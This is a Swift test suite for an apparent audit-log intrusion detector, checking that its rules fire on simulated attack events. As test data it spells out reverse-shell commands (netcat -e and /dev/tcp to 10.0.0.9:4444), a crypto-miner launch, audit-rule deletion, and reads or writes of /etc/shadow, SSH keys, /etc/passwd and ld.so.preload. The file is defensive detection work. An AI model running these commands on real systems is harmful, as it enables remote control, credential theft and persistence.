import AuditStream
import Foundation
import ProcessState
import RuleEngine
import Testing
import VigilDaemon
import VigilTestSupport

/// The packaged rules over audit events shaped exactly as the kernel writes them (x86_64, raw format), run
/// through the same parser, assembler, decoder and field source as the daemon. Host-side behaviours only:
/// container attribution needs live /proc and is covered by the container tests.
struct PackagedRulesTests {
    static let rulesDir = VigilBinary.repoRoot.appendingPathComponent("rules").path

    static func hex(_ s: String) -> String { s.utf8.map { String(format: "%02X", $0) }.joined() }

    /// One syscall event. `paths`: (name, nametype, mode); `sockaddr`: raw hex.
    static func event(
        serial: Int, syscall: Int, exit: Int = 0, a: [String] = ["0", "0", "0", "0"], comm: String, exe: String,
        argv: [String]? = nil, cwd: String = "/root", paths: [(String, String, String)] = [], sockaddr: String? = nil,
        uid: Int = 0, auid: Int = 1000, tty: String = "pts0"
    ) -> [String] {
        let stamp = "1795600000.\(String(format: "%03d", serial % 1000)):\(serial)"
        let success = exit >= 0 ? "yes" : "no"
        var lines = [
            "type=SYSCALL msg=audit(\(stamp)): arch=c000003e syscall=\(syscall) success=\(success) exit=\(exit) a0=\(a[0]) a1=\(a[1]) a2=\(a[2]) a3=\(a[3]) items=\(paths.count) ppid=100 pid=\(4000 + serial) auid=\(auid) uid=\(uid) gid=\(uid) euid=\(uid) suid=\(uid) fsuid=\(uid) egid=\(uid) sgid=\(uid) fsgid=\(uid) tty=\(tty) ses=3 comm=\"\(comm)\" exe=\"\(exe)\" key=\"vigil\""
        ]
        if let argv {
            lines.append("type=EXECVE msg=audit(\(stamp)): argc=\(argv.count) " + argv.enumerated().map { "a\($0.offset)=\(hex($0.element))" }.joined(separator: " "))
        }
        if let sockaddr { lines.append("type=SOCKADDR msg=audit(\(stamp)): saddr=\(sockaddr)") }
        lines.append("type=CWD msg=audit(\(stamp)): cwd=\"\(cwd)\"")
        for (i, p) in paths.enumerated() {
            lines.append("type=PATH msg=audit(\(stamp)): item=\(i) name=\"\(p.0)\" inode=\(100 + i) dev=fd:01 mode=\(p.2) ouid=0 ogid=0 rdev=00:00 nametype=\(p.1) cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0")
        }
        lines.append("type=PROCTITLE msg=audit(\(stamp)): proctitle=\(hex((argv ?? [comm]).joined(separator: "\u{0}")))")
        lines.append("type=EOE msg=audit(\(stamp)): ")
        return lines
    }

    static func fired(_ lines: [String], rules file: String = "vigil_rules.yaml") throws -> [String] {
        let matcher = try RuleMatcher(paths: [rulesDir + "/" + file], hostname: "test")
        let pipeline = AuditStreamPipeline()
        let enricher = Enricher.replay()
        var rules: [String] = []
        let sink: (AuditStreamPipeline.Output) -> Void = {
            if case .event(let e) = $0 {
                let d = EventDecoder.decode(e)
                matcher.match(d, enriched: enricher.enrich(e, d)) { rules.append($0.rule) }
            }
        }
        for (i, l) in lines.enumerated() { pipeline.push(line: Array(l.utf8), number: i + 1, emit: sink) }
        pipeline.finish(emit: sink)
        return rules
    }

    @Test func packagedRulesLoadWithoutErrorsOrWarnings() throws {
        let ruleset = try RuleLoader().load(paths: [Self.rulesDir])
        #expect(ruleset.rules.count >= 45)
        #expect(ruleset.diagnostics.isEmpty, "\(ruleset.diagnostics)")
        for rule in ruleset.rules where rule.location.file.hasSuffix("vigil_rules.yaml") {
            #expect(!rule.description.isEmpty)
            #expect(rule.tags.contains { $0.hasPrefix("T1") }, "\(rule.name) has no MITRE technique tag")
            #expect(rule.tags.contains("container") || rule.tags.contains("host"))
        }
    }

    /// Stock rules whose container-image exclusions stop excluding when the image is unknown are named as such
    /// (falco-reference §7.3: rules 3 and 10 use container.image.repository only in exclusions).
    @Test func failOpenRulesAreIdentified() throws {
        let ruleset = try RuleLoader().load(paths: [Self.rulesDir + "/falco_rules.yaml"])
        let failOpen = ruleset.rules.filter(FailOpenAnalysis.failsOpenWhenImageUnknown).map(\.name)
        #expect(failOpen.contains("Read sensitive file untrusted"))
        #expect(failOpen.contains("Clear Log Activities"))
        #expect(!failOpen.contains("Terminal shell in container"))
        #expect(!failOpen.contains("PTRACE attached to process"))
    }

    /// `container.mount*` as libsinsp answers them (the sandbox rules' `sensitive_mount` macro): by index or by a
    /// glob over the source (the destination for `.source`), the first match winning; no match is missing, so
    /// `container.mount.dest[/proc*] != "N/A"` is false for a container without such a mount.
    @Test func containerMountFieldsAnswerByIndexAndGlob() throws {
        let yaml = """
            - rule: Sensitive mount
              desc: d
              condition: evt.type = execve and container.mount.dest[/var/run/docker*] != "N/A"
              output: "%container.mount.dest[/var/run/docker*] %container.mount.source[/host/*] %container.mount[1] %container.mount.rdwr[0] %container.mount.propagation[/etc] %container.mounts"
              priority: WARNING
            """
        let dir = TemporaryDirectory("vigil-mounts")
        try yaml.write(toFile: dir.path("mounts.yaml"), atomically: true, encoding: .utf8)
        let matcher = try RuleMatcher(paths: [dir.path("mounts.yaml")], hostname: "test")
        let pipeline = AuditStreamPipeline()
        var events: [AuditEvent] = []
        let lines = Self.event(serial: 70, syscall: 59, comm: "sh", exe: "/bin/sh", argv: ["sh"])
        for (i, l) in lines.enumerated() { pipeline.push(line: Array(l.utf8), number: i + 1) { if case .event(let e) = $0 { events.append(e) } } }
        pipeline.finish { if case .event(let e) = $0 { events.append(e) } }
        let event = try #require(events.first)
        let decoded = EventDecoder.decode(event)
        let plain = Enricher.replay().enrich(event, decoded)
        var metadata = ContainerMetadata(runtime: .docker)
        metadata.mounts = [
            ContainerMount(source: "/etc", destination: "/host/etc", mode: "ro,z", readWrite: false, propagation: "rprivate"),
            ContainerMount(source: "/var/run/docker.sock", destination: "/var/run/docker.sock", readWrite: true, propagation: "rprivate"),
        ]
        let identity = ContainerIdentity(runtime: .docker, fullID: String(repeating: "ab", count: 32))
        var enriched = plain.attributed(to: ContainerView(identity: identity, metadata: metadata))
        var outputs: [String] = []
        matcher.match(decoded, enriched: enriched) { outputs.append(String(decoding: $0.message, as: UTF8.self)) }
        #expect(outputs == ["/var/run/docker.sock /etc /var/run/docker.sock:/var/run/docker.sock::true:rprivate false rprivate /etc:/host/etc:ro,z:false:rprivate,/var/run/docker.sock:/var/run/docker.sock::true:rprivate"])
        // Without the socket mount nothing matches the glob: missing, and the rule does not fire.
        metadata.mounts = [metadata.mounts![0]]
        enriched = plain.attributed(to: ContainerView(identity: identity, metadata: metadata))
        outputs = []
        matcher.match(decoded, enriched: enriched) { outputs.append(String(decoding: $0.message, as: UTF8.self)) }
        #expect(outputs.isEmpty)
    }

    /// A container's first write below a directory of its image: overlayfs copies the directory up and the kernel
    /// logs a dozen nameless PATH items after the file's own (the 24 items of `echo boot > /var/log/first.log` in
    /// a lab container, recorded live on this kernel). The opened file is the named CREATE item, not the last
    /// nameless directory — found by a red-team run: stock "Clear Log Activities" missed every log created this way
    /// because fd.typechar came out `d`.
    @Test func overlayCopyUpItemsAreNotTheOpenedFile() throws {
        let items = [
            "item=0 name=\"/var/log/\" inode=16319243 dev=00:32 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT",
            "item=1 name=\"/var/log/first.log\" inode=16318543 dev=00:32 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE",
            "item=2 name=(null) inode=16318524 dev=fe:00 mode=040000 ouid=0 ogid=0 rdev=00:00 nametype=PARENT",
            "item=3 name=(null) nametype=CREATE",
            "item=4 name=(null) inode=16318524 dev=fe:00 mode=040000 ouid=0 ogid=0 rdev=00:00 nametype=PARENT",
            "item=5 name=(null) inode=16318541 dev=fe:00 mode=040000 ouid=0 ogid=0 rdev=00:00 nametype=CREATE",
            "item=6 name=(null) inode=16318524 dev=fe:00 mode=040000 ouid=0 ogid=0 rdev=00:00 nametype=PARENT",
            "item=7 name=(null) inode=16318541 dev=fe:00 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=DELETE",
            "item=8 name=(null) inode=16318522 dev=fe:00 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT",
            "item=9 name=(null) nametype=CREATE",
            "item=10 name=(null) inode=16318522 dev=fe:00 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT",
            "item=11 name=(null) inode=16318541 dev=fe:00 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=CREATE",
            "item=12 name=(null) inode=16318524 dev=fe:00 mode=040000 ouid=0 ogid=0 rdev=00:00 nametype=PARENT",
            "item=13 name=(null) nametype=CREATE",
            "item=14 name=(null) inode=16318524 dev=fe:00 mode=040000 ouid=0 ogid=0 rdev=00:00 nametype=PARENT",
            "item=15 name=(null) inode=16318542 dev=fe:00 mode=040000 ouid=0 ogid=0 rdev=00:00 nametype=CREATE",
            "item=16 name=(null) inode=16318524 dev=fe:00 mode=040000 ouid=0 ogid=0 rdev=00:00 nametype=PARENT",
            "item=17 name=(null) inode=16318542 dev=fe:00 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=DELETE",
            "item=18 name=(null) inode=16318541 dev=fe:00 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT",
            "item=19 name=(null) nametype=CREATE",
            "item=20 name=(null) inode=16318541 dev=fe:00 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT",
            "item=21 name=(null) inode=16318542 dev=fe:00 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=CREATE",
            "item=22 name=(null) inode=16318542 dev=fe:00 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT",
            "item=23 name=(null) inode=16318542 dev=fe:00 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT",
        ]
        let stamp = "1795600000.900:990"
        var event = [
            "type=SYSCALL msg=audit(\(stamp)): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=560439813728 a2=241 a3=1b6 items=\(items.count) ppid=5644 pid=5690 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm=\"sh\" exe=\"/bin/busybox\" key=\"vigil\"",
            "type=CWD msg=audit(\(stamp)): cwd=\"/\"",
        ]
        event += items.map { "type=PATH msg=audit(\(stamp)): " + $0 }
        event.append("type=EOE msg=audit(\(stamp)): ")
        #expect(try Self.fired(event, rules: "falco_rules.yaml").contains("Clear Log Activities"))
        #expect(try Self.fired(event).contains("Log or shell history cleared"))
    }

    /// Stock rules that need fd.num (open_read), evt.arg.request (ptrace) and evt.arg.domain (socket).
    @Test func stockRulesOnAuditArguments() throws {
        let ptrace = Self.event(serial: 40, syscall: 101, a: ["10", "1234", "0", "0"], comm: "inject", exe: "/usr/local/bin/inject")
        #expect(try Self.fired(ptrace, rules: "falco_rules.yaml").contains("PTRACE attached to process"))
        let traceme = Self.event(serial: 41, syscall: 101, a: ["0", "0", "0", "0"], comm: "evasive", exe: "/usr/local/bin/evasive")
        #expect(try Self.fired(traceme, rules: "falco_rules.yaml").contains("PTRACE anti-debug attempt"))
        // find / -name id_rsa: the stock "Search Private Keys or Passwords" is an execve rule; a direct open of a
        // sensitive file by an untrusted program needs open_read, i.e. fd.num of the openat's result.
        let shadow = Self.event(serial: 42, syscall: 257, exit: 3, a: ["ffffff9c", "7ffd1000", "0", "0"], comm: "evilcat", exe: "/usr/local/bin/evilcat",
                                paths: [("/etc/shadow", "NORMAL", "0100640")])
        #expect(try Self.fired(shadow, rules: "falco_rules.yaml").contains("Read sensitive file untrusted"))
    }

    /// Stock rules 12 and 13 read the link's arguments: symlink's target comes from the PATH item the kernel logs
    /// for the name it took (nametype UNKNOWN, no inode), link's old path from its NORMAL item.
    @Test func stockSymlinkAndHardlinkRulesReadLinkArguments() throws {
        // symlinkat("/etc/shadow", AT_FDCWD, "/tmp/s"): as the kernel writes it.
        let symlink = Self.event(serial: 50, syscall: 266, a: ["7ffd1000", "ffffff9c", "7ffd2000", "0"], comm: "ln", exe: "/usr/bin/ln",
                                 paths: [("/etc/shadow", "UNKNOWN", ""), ("/tmp/", "PARENT", "041777"), ("/tmp/s", "CREATE", "0120777")])
        #expect(try Self.fired(symlink, rules: "falco_rules.yaml").contains("Create Symlink Over Sensitive Files"))
        // linkat(AT_FDCWD, "/etc/shadow", AT_FDCWD, "/tmp/h", 0)
        let hardlink = Self.event(serial: 51, syscall: 265, a: ["ffffff9c", "7ffd1000", "ffffff9c", "7ffd2000"], comm: "ln", exe: "/usr/bin/ln",
                                  paths: [("/etc/shadow", "NORMAL", "0100640"), ("/tmp/", "PARENT", "041777"), ("/tmp/h", "CREATE", "0100640")])
        #expect(try Self.fired(hardlink, rules: "falco_rules.yaml").contains("Create Hardlink Over Sensitive Files"))
        let benign = Self.event(serial: 52, syscall: 266, a: ["7ffd1000", "ffffff9c", "7ffd2000", "0"], comm: "ln", exe: "/usr/bin/ln",
                                paths: [("/opt/app/current", "UNKNOWN", ""), ("/tmp/", "PARENT", "041777"), ("/tmp/s", "CREATE", "0120777")])
        #expect(try !Self.fired(benign, rules: "falco_rules.yaml").contains("Create Symlink Over Sensitive Files"))
    }

    @Test func sensitiveCredentialReadFires() throws {
        let shadow = Self.event(serial: 1, syscall: 257, exit: 3, a: ["ffffff9c", "7ffd1000", "0", "0"], comm: "cat", exe: "/usr/bin/cat",
                                paths: [("/etc/shadow", "NORMAL", "0100640")])
        #expect(try Self.fired(shadow) == ["Sensitive credential file read"])
        let key = Self.event(serial: 2, syscall: 257, exit: 3, a: ["ffffff9c", "7ffd1000", "80000", "0"], comm: "python3", exe: "/usr/bin/python3.11",
                             cwd: "/home/eve", paths: [(".ssh/id_ed25519", "NORMAL", "0100600")])
        #expect(try Self.fired(key) == ["Sensitive credential file read"])
        let pub = Self.event(serial: 3, syscall: 257, exit: 3, a: ["ffffff9c", "7ffd1000", "0", "0"], comm: "cat", exe: "/usr/bin/cat",
                             paths: [("/root/.ssh/id_ed25519.pub", "NORMAL", "0100644")])
        #expect(try Self.fired(pub).isEmpty)
        let failed = Self.event(serial: 4, syscall: 257, exit: -13, a: ["ffffff9c", "7ffd1000", "0", "0"], comm: "cat", exe: "/usr/bin/cat",
                                paths: [("/etc/shadow", "NORMAL", "0100640")])
        #expect(try Self.fired(failed).isEmpty)
    }

    @Test func executionAndShellBehavioursFire() throws {
        let tmp = Self.event(serial: 10, syscall: 59, comm: "payload", exe: "/tmp/payload", argv: ["/tmp/payload", "-q"],
                             paths: [("/tmp/payload", "NORMAL", "0100755"), ("/lib64/ld-linux-x86-64.so.2", "NORMAL", "0100755")])
        #expect(try Self.fired(tmp) == ["Execution from temporary or memory location"])
        let nc = Self.event(serial: 11, syscall: 59, comm: "nc", exe: "/usr/bin/nc.traditional", argv: ["nc", "-e", "/bin/sh", "10.0.0.9", "4444"],
                            paths: [("/usr/bin/nc", "NORMAL", "0100755")])
        #expect(try Self.fired(nc) == ["Netcat remote code execution"])
        let devtcp = Self.event(serial: 12, syscall: 59, comm: "bash", exe: "/usr/bin/bash", argv: ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"],
                                paths: [("/bin/bash", "NORMAL", "0100755")])
        #expect(try Self.fired(devtcp) == ["Reverse shell via dev tcp"])
        let miner = Self.event(serial: 13, syscall: 59, comm: "xmrig", exe: "/opt/x/xmrig", argv: ["./xmrig", "-o", "stratum+tcp://pool:3333"],
                               cwd: "/opt/x", paths: [("./xmrig", "NORMAL", "0100755")])
        #expect(try Self.fired(miner) == ["Crypto miner executed"])
        let audit = Self.event(serial: 14, syscall: 59, comm: "auditctl", exe: "/usr/sbin/auditctl", argv: ["auditctl", "-D"],
                               paths: [("/sbin/auditctl", "NORMAL", "0100750")])
        #expect(try Self.fired(audit) == ["Audit subsystem tampering"])
        let benign = Self.event(serial: 15, syscall: 59, comm: "ls", exe: "/usr/bin/ls", argv: ["ls", "-la", "/tmp"],
                                paths: [("/usr/bin/ls", "NORMAL", "0100755")])
        #expect(try Self.fired(benign).isEmpty)
        // A script run by its path: the kernel runs its interpreter (exe is the shell), the exec'd file is the script
        // (PATH item 0, as recorded live for `/tmp/s.sh` in a lab container); and a script handed to a shell.
        let script = Self.event(serial: 16, syscall: 59, comm: "s.sh", exe: "/bin/busybox", argv: ["/bin/sh", "/tmp/s.sh"],
                                paths: [("/tmp/s.sh", "NORMAL", "0100755"), ("/bin/sh", "NORMAL", "0100755")])
        #expect(try Self.fired(script) == ["Execution from temporary or memory location"])
        let shScript = Self.event(serial: 17, syscall: 59, comm: "sh", exe: "/bin/busybox", argv: ["sh", "/dev/shm/x"],
                                  paths: [("/bin/sh", "NORMAL", "0100755")])
        #expect(try Self.fired(shScript) == ["Execution from temporary or memory location"])
        let shWork = Self.event(serial: 18, syscall: 59, comm: "sh", exe: "/bin/busybox", argv: ["sh", "/srv/build.sh"],
                                paths: [("/bin/sh", "NORMAL", "0100755")])
        #expect(try Self.fired(shWork).isEmpty)
        // execveat(dirfd, "true") from a CWD under /tmp: the name is relative to the dirfd (unknown here), not to
        // the CWD, so it is no "/tmp/…/true" (make-audit-log's workload, run from a checkout in /tmp).
        let execveat = Self.event(serial: 19, syscall: 322, a: ["3", "7ffd1000", "0", "0"], comm: "true", exe: "/usr/bin/true",
                                  argv: ["true", "execveat"], cwd: "/tmp/x", paths: [("true", "NORMAL", "0100755")])
        #expect(try Self.fired(execveat).isEmpty)
        let relative = Self.event(serial: 20, syscall: 59, comm: "payload", exe: "/tmp/x/payload", argv: ["./payload"],
                                  cwd: "/tmp/x", paths: [("./payload", "NORMAL", "0100755")])
        #expect(try Self.fired(relative) == ["Execution from temporary or memory location"])
    }

    /// Reverse shells without nc -e or /dev/tcp, and account tampering (found missing by a red-team run in lab
    /// containers: a FIFO reverse shell and `chmod 777 /etc/passwd` raised nothing specific).
    @Test func interactiveShellsWithoutTerminalAndAccountTamperingFire() throws {
        let shi = Self.event(serial: 90, syscall: 59, comm: "sh", exe: "/bin/busybox", argv: ["sh", "-i"],
                             paths: [("/bin/sh", "NORMAL", "0100755")], tty: "(none)")
        #expect(try Self.fired(shi) == ["Interactive shell without a terminal"])
        let bash = Self.event(serial: 91, syscall: 59, comm: "bash", exe: "/usr/bin/bash", argv: ["bash", "--norc", "-li"],
                              paths: [("/bin/bash", "NORMAL", "0100755")], tty: "(none)")
        #expect(try Self.fired(bash) == ["Interactive shell without a terminal"])
        let person = Self.event(serial: 92, syscall: 59, comm: "sh", exe: "/bin/busybox", argv: ["sh", "-i"],
                                paths: [("/bin/sh", "NORMAL", "0100755")], tty: "pts0")
        #expect(try Self.fired(person).isEmpty)
        // The -i belongs to grep, not to the shell.
        let script = Self.event(serial: 93, syscall: 59, comm: "sh", exe: "/bin/busybox", argv: ["sh", "-c", "grep -i x /etc/hosts"],
                                paths: [("/bin/sh", "NORMAL", "0100755")], tty: "(none)")
        #expect(try Self.fired(script).isEmpty)

        // openat(AT_FDCWD, "/etc/passwd", O_WRONLY|O_CREAT|O_APPEND) by the shell of `echo … >> /etc/passwd`
        let append = Self.event(serial: 94, syscall: 257, exit: 3, a: ["ffffff9c", "7ffd1000", "441", "1b6"], comm: "sh",
                                exe: "/bin/busybox", paths: [("/etc/passwd", "NORMAL", "0100644")])
        #expect(try Self.fired(append) == ["Account database modified"])
        let sudoers = Self.event(serial: 95, syscall: 257, exit: 3, a: ["ffffff9c", "7ffd1000", "241", "1b6"], comm: "sh",
                                 exe: "/bin/busybox", paths: [("/etc/sudoers.d/", "PARENT", "040755"), ("/etc/sudoers.d/e2e", "CREATE", "0100644")])
        #expect(try Self.fired(sudoers) == ["Account database modified"])
        let useradd = Self.event(serial: 96, syscall: 257, exit: 3, a: ["ffffff9c", "7ffd1000", "441", "1b6"], comm: "useradd",
                                 exe: "/usr/sbin/useradd", paths: [("/etc/passwd", "NORMAL", "0100644")])
        #expect(try Self.fired(useradd).isEmpty)
        let read = Self.event(serial: 97, syscall: 257, exit: 3, a: ["ffffff9c", "7ffd1000", "80000", "0"], comm: "id",
                              exe: "/usr/bin/id", paths: [("/etc/passwd", "NORMAL", "0100644")])
        #expect(try Self.fired(read).isEmpty)

        // fchmodat(AT_FDCWD, "/etc/passwd", 0777); chown("/etc/shadow", 65534, -1); chmod of another file
        let chmod = Self.event(serial: 98, syscall: 268, a: ["ffffff9c", "7ffd1000", "1ff", "0"], comm: "chmod",
                               exe: "/bin/busybox", paths: [("/etc/passwd", "NORMAL", "0100777")])
        #expect(try Self.fired(chmod) == ["Account database permissions changed"])
        let chown = Self.event(serial: 99, syscall: 92, a: ["7ffd1000", "fffe", "ffffffff", "0"], comm: "chown",
                               exe: "/bin/busybox", paths: [("/etc/shadow", "NORMAL", "0100640")])
        #expect(try Self.fired(chown) == ["Account database permissions changed"])
        let other = Self.event(serial: 100, syscall: 268, a: ["ffffff9c", "7ffd1000", "1ff", "0"], comm: "chmod",
                               exe: "/bin/busybox", paths: [("/srv/app.conf", "NORMAL", "0100777")])
        #expect(try Self.fired(other).isEmpty)
    }

    /// Secrets in another process's environment or memory; the cloud metadata service is a container-only rule (a
    /// replayed log has no containers, so it must stay quiet here).
    @Test func processEnvironmentAndMemoryReadsFire() throws {
        let environ = Self.event(serial: 110, syscall: 257, exit: 3, a: ["ffffff9c", "7ffd1000", "0", "0"], comm: "cat",
                                 exe: "/bin/busybox", paths: [("/proc/1/environ", "NORMAL", "0100400")])
        #expect(try Self.fired(environ) == ["Process environment read"])
        let own = Self.event(serial: 111, syscall: 257, exit: 3, a: ["ffffff9c", "7ffd1000", "0", "0"], comm: "cat",
                             exe: "/bin/busybox", paths: [("/proc/self/environ", "NORMAL", "0100400")])
        #expect(try Self.fired(own).isEmpty)
        let ps = Self.event(serial: 112, syscall: 257, exit: 3, a: ["ffffff9c", "7ffd1000", "0", "0"], comm: "ps",
                            exe: "/usr/bin/ps", paths: [("/proc/812/environ", "NORMAL", "0100400")])
        #expect(try Self.fired(ps).isEmpty)
        // open("/proc/812/mem", O_RDONLY) = -EACCES: the attempt is reported
        let mem = Self.event(serial: 114, syscall: 257, exit: -13, a: ["ffffff9c", "7ffd1000", "0", "0"], comm: "dd",
                             exe: "/bin/busybox", paths: [("/proc/812/mem", "NORMAL", "0100600")])
        #expect(try Self.fired(mem) == ["Process memory read"])
        let selfMem = Self.event(serial: 115, syscall: 257, exit: 3, a: ["ffffff9c", "7ffd1000", "0", "0"], comm: "java",
                                 exe: "/usr/bin/java", paths: [("/proc/self/mem", "NORMAL", "0100600")])
        #expect(try Self.fired(selfMem).isEmpty)
        let gdb = Self.event(serial: 116, syscall: 257, exit: 3, a: ["ffffff9c", "7ffd1000", "0", "0"], comm: "gdb",
                             exe: "/usr/bin/gdb", paths: [("/proc/812/mem", "NORMAL", "0100600")])
        #expect(try Self.fired(gdb).isEmpty)
        // connect(3, {AF_INET, 80, 169.254.169.254}) = -ENETUNREACH, from the host
        let metadata = Self.event(serial: 113, syscall: 42, exit: -101, a: ["3", "7ffd1000", "10", "0"], comm: "curl",
                                  exe: "/usr/bin/curl", sockaddr: "02000050A9FEA9FE0000000000000000")
        #expect(try Self.fired(metadata).isEmpty)
    }

    /// Persistence files and setuid bits (found missing by a red-team run in lab containers).
    @Test func persistenceFilesAndSetuidBitsFire() throws {
        // openat(AT_FDCWD, "/etc/ld.so.preload", O_WRONLY|O_CREAT|O_TRUNC)
        let preload = Self.event(serial: 80, syscall: 257, exit: 3, a: ["ffffff9c", "7ffd1000", "241", "1b6"], comm: "sh", exe: "/bin/busybox",
                                 paths: [("/etc/", "PARENT", "040755"), ("/etc/ld.so.preload", "CREATE", "0100644")])
        #expect(try Self.fired(preload) == ["Persistence or preload file written"])
        let cron = Self.event(serial: 81, syscall: 257, exit: 3, a: ["ffffff9c", "7ffd1000", "241", "1b6"], comm: "sh", exe: "/bin/busybox",
                              paths: [("/var/spool/cron/crontabs/root", "NORMAL", "0100600")])
        #expect(try Self.fired(cron) == ["Persistence or preload file written"])
        let readCron = Self.event(serial: 82, syscall: 257, exit: 3, a: ["ffffff9c", "7ffd1000", "0", "0"], comm: "cron", exe: "/usr/sbin/cron",
                                  paths: [("/etc/crontab", "NORMAL", "0100644")])
        #expect(try Self.fired(readCron).isEmpty)
        // fchmodat(AT_FDCWD, "/tmp/rootsh", 04755) and chmod("/tmp/x", 0755)
        let suid = Self.event(serial: 83, syscall: 268, a: ["ffffff9c", "7ffd1000", "9ed", "0"], comm: "chmod", exe: "/bin/busybox",
                              paths: [("/tmp/rootsh", "NORMAL", "0104755")])
        #expect(try Self.fired(suid) == ["Setuid or setgid bit set"])
        let plain = Self.event(serial: 84, syscall: 90, a: ["7ffd1000", "1ed", "0", "0"], comm: "chmod", exe: "/bin/busybox",
                               paths: [("/tmp/x", "NORMAL", "0100755")])
        #expect(try Self.fired(plain).isEmpty)
    }

    @Test func kernelAndFilesystemBehavioursFire() throws {
        let module = Self.event(serial: 20, syscall: 313, exit: -38, a: ["3", "0", "0", "0"], comm: "insmod", exe: "/usr/bin/kmod")
        #expect(try Self.fired(module) == ["Kernel module load attempt"])
        let ptrace = Self.event(serial: 21, syscall: 101, a: ["10", "1234", "0", "0"], comm: "inject", exe: "/usr/local/bin/inject")
        #expect(try Self.fired(ptrace) == ["Ptrace of another process"])
        // The end of that session (PTRACE_DETACH) and a process offering itself to its parent (PTRACE_TRACEME)
        // trace no new process.
        let detach = Self.event(serial: 60, syscall: 101, a: ["11", "1234", "0", "0"], comm: "inject", exe: "/usr/local/bin/inject")
        #expect(try !Self.fired(detach).contains("Ptrace of another process"))
        let traceme = Self.event(serial: 61, syscall: 101, a: ["0", "0", "0", "0"], comm: "inject", exe: "/usr/local/bin/inject")
        #expect(try !Self.fired(traceme).contains("Ptrace of another process"))
        // openat(AT_FDCWD, "/usr/bin/ls", O_WRONLY|O_CREAT|O_TRUNC): PARENT + CREATE items, as the kernel writes them.
        let binWrite = Self.event(serial: 22, syscall: 257, exit: 3, a: ["ffffff9c", "7ffd1000", "241", "1ed"], comm: "cp", exe: "/usr/bin/cp",
                                  paths: [("/usr/bin/", "PARENT", "040755"), ("/usr/bin/ls", "NORMAL", "0100755")])
        #expect(try Self.fired(binWrite) == ["Write below binary directory"])
        let dpkg = Self.event(serial: 23, syscall: 257, exit: 3, a: ["ffffff9c", "7ffd1000", "241", "1ed"], comm: "dpkg", exe: "/usr/bin/dpkg",
                              paths: [("/usr/bin/", "PARENT", "040755"), ("/usr/bin/ls", "NORMAL", "0100755")])
        #expect(try Self.fired(dpkg).isEmpty)
        let history = Self.event(serial: 24, syscall: 87, a: ["7ffd1000", "0", "0", "0"], comm: "rm", exe: "/usr/bin/rm", cwd: "/root",
                                 paths: [("/root/", "PARENT", "040700"), (".bash_history", "DELETE", "0100600")])
        let historyRules = try Self.fired(history)
        #expect(historyRules == ["Log or shell history cleared"], "\(historyRules)")
        let core = Self.event(serial: 25, syscall: 257, exit: 3, a: ["ffffff9c", "7ffd1000", "1", "0"], comm: "sh", exe: "/usr/bin/dash",
                              paths: [("/proc/sys/kernel/core_pattern", "NORMAL", "0100644")])
        #expect(try Self.fired(core) == ["Write to cgroup release_agent or core_pattern"])
    }

    @Test func minerPortConnectAndRuntimeSocketFire() throws {
        // connect(3, {AF_INET, 3333, 10.1.2.3})
        let pool = Self.event(serial: 30, syscall: 42, exit: -115, a: ["3", "7ffd1000", "10", "0"], comm: "worker", exe: "/usr/bin/worker",
                              sockaddr: "02000D050A0102030000000000000000")
        #expect(try Self.fired(pool) == ["Outbound connection to mining pool port"])
        let sock = "0100" + Self.hex("/var/run/docker.sock") + "00"
        let docker = Self.event(serial: 31, syscall: 42, a: ["3", "7ffd1000", "6e", "0"], comm: "curl", exe: "/usr/bin/curl",
                                sockaddr: sock)
        #expect(try Self.fired(docker) == ["Container runtime socket accessed"])
        let web = Self.event(serial: 32, syscall: 42, exit: 0, a: ["3", "7ffd1000", "10", "0"], comm: "curl", exe: "/usr/bin/curl",
                             sockaddr: "020001BB5DB8D8220000000000000000")
        #expect(try Self.fired(web).isEmpty)
    }
}
